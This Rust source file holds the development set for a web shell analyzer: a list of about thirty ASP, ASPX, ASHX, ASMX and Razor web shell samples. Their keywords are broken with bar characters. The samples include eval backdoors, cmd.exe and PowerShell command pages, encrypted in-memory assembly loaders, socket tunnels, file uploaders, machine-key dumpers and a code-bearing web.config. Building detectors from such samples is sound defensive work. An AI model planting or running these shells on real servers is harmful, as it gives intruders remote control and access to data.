//! Shapes of the development set: the analyzer was written with them in view.

/// Name, file, text with bars.
pub(super) const SHAPES: &[(&str, &str, &str)] = &[
    (
        "jscript eval of an item",
        "one.aspx",
        r#"<%@ Page Language="Jscr¦ipt"%><%ev¦al(Requ¦est.It¦em["pw"],"uns¦afe");%>"#,
    ),
    (
        "jscript eval in page load",
        "help.aspx",
        r#"<script language="JScr¦ipt" run¦at="server">function Page_Load(){ev¦al(Requ¦est["qk41"],"uns¦afe");}</script>"#,
    ),
    (
        "oab export",
        "oab.aspx",
        "Name                            : OAB (Default Web Site)\nInternalAuthenticationMethods   : WindowsIntegrated\nExtendedProtectionTokenChecking : None\nOfflineAddressBooks             :\nInternalUrl                     : https://mail.example.org/OAB\nExternalUrl                     : http://f/<script language=\"JScr¦ipt\" run¦at=\"server\">function Page_Load(){ev¦al(Requ¦est[\"kq9\"],\"uns¦afe\");}</script>\nExternalAuthenticationMethods   : WindowsIntegrated\n",
    ),
    (
        "decode then eval",
        "d.aspx",
        r#"<script run¦at="server" language="JScr¦ipt">function go(t){ var a = "u" + "ns" + "afe"; return ev¦al(t, a); }</script><% go(go(System.Text.Encoding.GetEncoding(65001).GetString(System.Convert.From¦Base64String("UmVxdWVzdC5JdGVtWyJ6Il0=")))); %>"#,
    ),
    (
        "command page",
        "cmd.aspx",
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Diagnostics\" %>\n<script run¦at=\"server\">\nstring Go(string line)\n{\n  Proc¦essStartInfo info = new Proc¦essStartInfo();\n  info.FileName = \"cm¦d.exe\";\n  info.Arguments = \"/c \" + line;\n  info.RedirectStandardOutput = true;\n  info.UseShellExecute = false;\n  Proc¦ess p = Proc¦ess.St¦art(info);\n  return p.StandardOutput.ReadToEnd();\n}\nvoid Run_Click(object sender, EventArgs e) { Response.Write(Server.HtmlEncode(Go(line.Text))); }\n</script>\n<form run¦at=\"server\"><asp:TextBox id=\"line\" run¦at=\"server\"/><asp:Button id=\"b\" run¦at=\"server\" OnClick=\"Run_Click\"/></form>\n",
    ),
    (
        "encrypted assembly in memory",
        "mem.aspx",
        r#"<%@ Page Language="C#" %><%@Import Namespace="System.Reflection"%><%Session.Add("k","0123456789abcdef");byte[] k=Encoding.Default.GetBytes(Session[0]+""),c=Requ¦est.Binary¦Read(Requ¦est.ContentLength);Assem¦bly.Lo¦ad(new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(k,k).TransformFinalBlock(c,0,c.Length)).CreateInst¦ance("U").Equals(this);%>"#,
    ),
    (
        "reflected load kept in the session",
        "g.aspx",
        r#"<%@ Page Language="C#"%><% try { string key = "0123456789abcdef"; byte[] data = System.Convert.From¦Base64String(Context.Requ¦est["pw"]); data = new System.Security.Cryptography.RijndaelManaged().CreateDecryptor(System.Text.Encoding.Default.GetBytes(key), System.Text.Encoding.Default.GetBytes(key)).TransformFinalBlock(data, 0, data.Length); if (Context.Session["p"] == null) { Context.Session["p"] = (System.Reflection.Assem¦bly)typeof(System.Reflection.Assem¦bly).GetMeth¦od("Lo¦ad", new System.Type[] { typeof(byte[]) }).Inv¦oke(null, new object[] { data }); } else { object o = ((System.Reflection.Assem¦bly)Context.Session["p"]).CreateInst¦ance("LY"); o.Equals(Context); } } catch (System.Exception) { } %>"#,
    ),
    (
        "socket tunnel",
        "t.aspx",
        "<%@ Page Language=\"C#\" EnableSessionState=\"True\"%>\n<%@ Import Namespace=\"System.Net\" %>\n<%@ Import Namespace=\"System.Net.Sockets\" %>\n<%\ntry {\n  string what = Requ¦est.Headers.Get(\"X-WHAT\");\n  if (what == \"OPEN\") {\n    IPAddress ip = IPAddress.Parse(Requ¦est.QueryString.Get(\"host\"));\n    IPEndPoint to = new IPEndPoint(ip, int.Parse(Requ¦est.QueryString.Get(\"port\")));\n    Sock¦et s = new Sock¦et(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n    s.Conn¦ect(to);\n    Session.Add(\"s\", s);\n  } else if (what == \"SEND\") {\n    Sock¦et s = (Sock¦et)Session[\"s\"];\n    byte[] b = new byte[Requ¦est.ContentLength];\n    int n = 0;\n    while ((n = Requ¦est.InputStream.Read(b, 0, b.Length)) > 0) { s.Se¦nd(b); }\n  } else {\n    Sock¦et s = (Sock¦et)Session[\"s\"];\n    byte[] b = new byte[512];\n    int n = s.Receive(b);\n    Response.BinaryWrite(b);\n  }\n} catch (Exception) { }\n%>\n",
    ),
    (
        "file writer",
        "w.aspx",
        r#"<%@ Page Language="c#"%><%Stream¦Writer w = new Stream¦Writer(Requ¦est.Form["p"]); w.Wri¦te(Requ¦est.Form["f"]); w.Close();%>"#,
    ),
    (
        "posted file anywhere",
        "up.aspx",
        r#"<%@ Page Language="C#" %><%if(Requ¦est.Files.Count!=0){Requ¦est.Files[0].Save¦As(System.IO.Path.Combine(Requ¦est["d"],Requ¦est.Files[0].FileName));}%>"#,
    ),
    (
        "posted file by parameter",
        "up2.aspx",
        r#"<%@ Page Language="C#" %><%if(Requ¦est.Files.Count!=0){Requ¦est.Files[0].Save¦As(Server.MapPath(Requ¦est["f"]));}%>"#,
    ),
    (
        "machine keys",
        "spin.aspx",
        r#"<%@ Import Namespace="System.Reflection" %><script run¦at="server" language="c#">public void Page_load() { var sy = Assem¦bly.Lo¦ad("System.Web, Version=4.0.0.0, Culture=neutral, PublicKeyToken=b03f5f7f11d50a3a"); var t = sy.GetType("System.Web.Configuration.Machine¦KeySection"); var m = t.GetMeth¦od("GetApplicationConfig", BindingFlags.Static | BindingFlags.NonPublic); var cg = (System.Web.Configuration.Machine¦KeySection)m.Inv¦oke(null, new object[0]); Response.Write(cg.Validation¦Key+"|"+cg.Decryption¦Key); }</script>"#,
    ),
    (
        "style sheet from base64",
        "x.aspx",
        r#"<%@ Page Language="C#" %><%@ Import Namespace="System.Xml" %><%@ Import Namespace="System.Xml.Xsl" %><% XmlDocument doc = new XmlDocument(); doc.Load¦Xml(System.Text.Encoding.UTF8.GetString(Convert.From¦Base64String(Requ¦est["t"]))); XslCompiledTrans¦form x = new XslCompiledTrans¦form(); x.Lo¦ad(doc, XsltSettings.TrustedXslt, new XmlUrlResolver()); x.Trans¦form(new XmlDocument(), null, Response.Output); %>"#,
    ),
    (
        "security programs looked for",
        "p.aspx",
        r#"<%@ Page Language="C#" %><% if (System.IO.File.Exists("C:\\Program Files\\Vendor\\Sensor\\agent.exe")) Response.Write("3"); if (System.IO.File.Exists("C:\\Program Files\\Other\\guard.exe")) Response.Write("7"); %>"#,
    ),
    ("vbscript eval", "a.asp", r#"<%ev¦al requ¦est("pw")%>"#),
    (
        "vbscript execute of the session",
        "s.asp",
        r#"<%if requ¦est("v")<>"" then session("v")=requ¦est("v"):end if:if session("v")<>"" then exec¦ute session("v")%>"#,
    ),
    ("vbscript reversed", "r.asp", r#"<% x = strrev¦erse(")""wp""(tse¦uqer la¦ve") : exec¦ute x %>"#),
    (
        "vbscript character codes",
        "c.asp",
        "<%ev¦al(ev¦al(chr(114)+chr(101)+chr(113)+chr(117)+chr(101)+chr(115)+chr(116)+chr(40)+chr(34)+chr(112)+chr(34)+chr(41)))%>",
    ),
    (
        "vbscript own decoder",
        "o.asp",
        "<%\nFunction d(s)\n Dim i, r\n For i = 1 To Len(s)\n  r = r & Chr(Asc(Mid(s,i,1)) Xor 3)\n Next\n d = r\nEnd Function\nexec¦ute d(\"fubo#qfrvfpw+!{!*\")\n%>\n",
    ),
    (
        "script control",
        "sc.asp",
        "<%set m = server.CreateObject(\"MSScript¦Control.Script¦Control.1\")\nm.Language=\"VBScript\"\nm.AddObject \"Response\", Response\nm.AddObject \"request\", request\nm.Execute¦Statement(\"ev\"&\"al(requ\"&\"est(\"\"1\"\"))\")%>",
    ),
    (
        "wscript shell",
        "ws.asp",
        "<%\nDim sh, fs, f, line, tmp\nOn Error Resume Next\nSet sh = Server.CreateObject(\"WSCRIPT.SH¦ELL\")\nSet fs = Server.CreateObject(\"Scripting.FileSystemObject\")\nline = Request.Form(\".LINE\")\nIf (line <> \"\") Then\n  tmp = \"C:\\\" & fs.GetTempName( )\n  Call sh.R¦un (\"cm¦d.exe /c \" & line & \" > \" & tmp, 0, True)\n  Set f = fs.OpenTextFile (tmp, 1, False, 0)\nEnd If\n%>\n<FORM action=\"<%= Request.ServerVariables(\"URL\") %>\" method=\"POST\"></FORM>\n",
    ),
    (
        "jscript of classic asp",
        "js.asp",
        r"<SCRIPT RUN¦AT=SERVER LANGUAGE=JAVASCRIPT>try{ev¦al(Requ¦est.form('#')+'')}catch(e){}</SCRIPT>",
    ),
    (
        "handler that drops a page",
        "h.ashx",
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System; using System.Web; using System.IO;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext context) {\n    Stream¦Writer w = File.CreateText(context.Server.MapPath(\"root.asp\"));\n    w.Wri¦te(\"<%resp¦onse.clear:exec¦ute requ¦est(\\\"root\\\"):response.End%>\");\n    w.Close();\n  }\n  public bool IsReusable { get { return false; } }\n}\n",
    ),
    (
        "configuration with code",
        "web.config",
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<configuration><system.webServer><handlers accessPolicy=\"Read, Script, Write\">\n<add name=\"web_config\" path=\"*.config\" verb=\"*\" modules=\"IsapiModule\" scriptProcessor=\"%windir%\\system32\\inetsrv\\asp.dll\" resourceType=\"Unspecified\" requireAccess=\"Write\" />\n</handlers></system.webServer></configuration>\n<!-- <% Response.write(\"-\"&\"->\")\nSet s = CreateObject(\"WScript.Sh¦ell\")\nResponse.Write s.Ex¦ec(\"cm¦d /c \" & Request(\"c\")).StdOut.ReadAll %> -->\n",
    ),
    (
        "file manager",
        "fm.aspx",
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.IO\" %>\n<script run¦at=\"server\">\nvoid Page_Load(object s, EventArgs e) {\n  string dir = Requ¦est[\"dir\"];\n  if (dir == null) dir = Server.MapPath(\".\");\n  switch (Requ¦est[\"a\"]) {\n    case \"del\": File.Del¦ete(Requ¦est[\"f\"]); break;\n    case \"get\": Response.Write¦File(Requ¦est[\"f\"]); break;\n    case \"mv\": File.Mo¦ve(Requ¦est[\"f\"], Requ¦est[\"t\"]); break;\n  }\n  foreach (DriveInfo d in DriveInfo.GetDrives()) Response.Write(d.Name);\n  DirectoryInfo i = new DirectoryInfo(dir);\n  foreach (DirectoryInfo x in i.GetDirectories()) Response.Write(x.Name);\n  foreach (FileInfo x in i.GetFiles()) Response.Write(x.Name);\n}\n</script>\n",
    ),
    (
        "sql console",
        "sql.aspx",
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Data.SqlClient\" %>\n<script run¦at=\"server\">\nvoid Go(object s, EventArgs e) {\n  SqlConnection c = new SqlConnection(conn.Text);\n  c.Open();\n  SqlCommand q = new SqlCommand(query.Text, c);\n  grid.DataSource = q.ExecuteReader();\n  grid.DataBind();\n}\n</script>\n<form run¦at=\"server\"><asp:TextBox id=\"conn\" run¦at=\"server\"/><asp:TextBox id=\"query\" run¦at=\"server\"/><asp:Button id=\"b\" run¦at=\"server\" OnClick=\"Go\"/><asp:DataGrid id=\"grid\" run¦at=\"server\"/></form>\n",
    ),
    (
        "compiles what is sent",
        "cc.ashx",
        "<%@ WebHandler Language=\"C#\" Class=\"H\" %>\nusing System; using System.Web; using System.CodeDom.Compiler; using Microsoft.CSharp;\npublic class H : IHttpHandler {\n  public void ProcessRequest(HttpContext c) {\n    CodeDomProvider p = new CSharpCodeProvider();\n    CompilerParameters o = new CompilerParameters(); o.GenerateInMemory = true;\n    CompilerResults r = p.Compile¦AssemblyFromSource(o, c.Requ¦est.Form[\"src\"]);\n    object x = r.CompiledAssembly.CreateInstance(\"E\");\n    c.Response.Write(x.ToString());\n  }\n  public bool IsReusable { get { return true; } }\n}\n",
    ),
    (
        "view state formatter",
        "vs.aspx",
        r#"<%@ Page Language="C#" %><% var f = new System.Runtime.Serialization.Formatters.Binary.BinaryForm¦atter(); f.Deser¦ialize(new System.IO.MemoryStream(Convert.From¦Base64String(Requ¦est["d"]))); %>"#,
    ),
    (
        "powershell",
        "ps.aspx",
        "<%@ Page Language=\"C#\" %>\n<%@ Import Namespace=\"System.Management.Automation\" %>\n<script run¦at=\"server\">\nprotected void Page_Load(object s, EventArgs e) {\n  Power¦Shell ps = Power¦Shell.Create();\n  ps.AddScr¦ipt(Requ¦est.Headers[\"X-C\"]);\n  foreach (var r in ps.Invoke()) Response.Write(r.ToString());\n}\n</script>\n",
    ),
    (
        "jscript web service",
        "ws.asmx",
        "<%@ WebService Language=\"JScr¦ipt\" class=\"S\"%>\nimport System; import System.Web; import System.Web.Services;\npublic class S extends WebService {\n  WebMethodAttribute public function Go(z : String) : void {\n    var c = HttpContext.Current;\n    var Request = c.Request; var Response = c.Response; var Server = c.Server;\n    ev¦al(z, \"uns¦afe\");\n  }\n}\n",
    ),
    (
        "web method that runs commands",
        "wm.asmx",
        "<%@ WebService Language=\"C#\" Class=\"Svc\" %>\nusing System.Web.Services;\nusing System.Diagnostics;\npublic class Svc : WebService {\n  [WebMethod]\n  public string Go(string line) {\n    Proc¦ess p = new Proc¦ess();\n    p.StartInfo.FileName = \"powersh¦ell.exe\";\n    p.StartInfo.Arguments = \"-nop -c \" + line;\n    p.StartInfo.UseShellExecute = false;\n    p.StartInfo.RedirectStandardOutput = true;\n    p.Sta¦rt();\n    return p.StandardOutput.ReadToEnd();\n  }\n}\n",
    ),
    (
        "razor command",
        "i.cshtml",
        "@using System.Diagnostics\n@{\n  var c = Requ¦est[\"c\"];\n  if (c != null) {\n    var i = new Proc¦essStartInfo(\"cm¦d.exe\", \"/c \" + c) { UseShellExecute = false, RedirectStandardOutput = true };\n    var p = Proc¦ess.St¦art(i);\n    <pre>@p.StandardOutput.ReadToEnd()</pre>\n  }\n}\n",
    ),
];
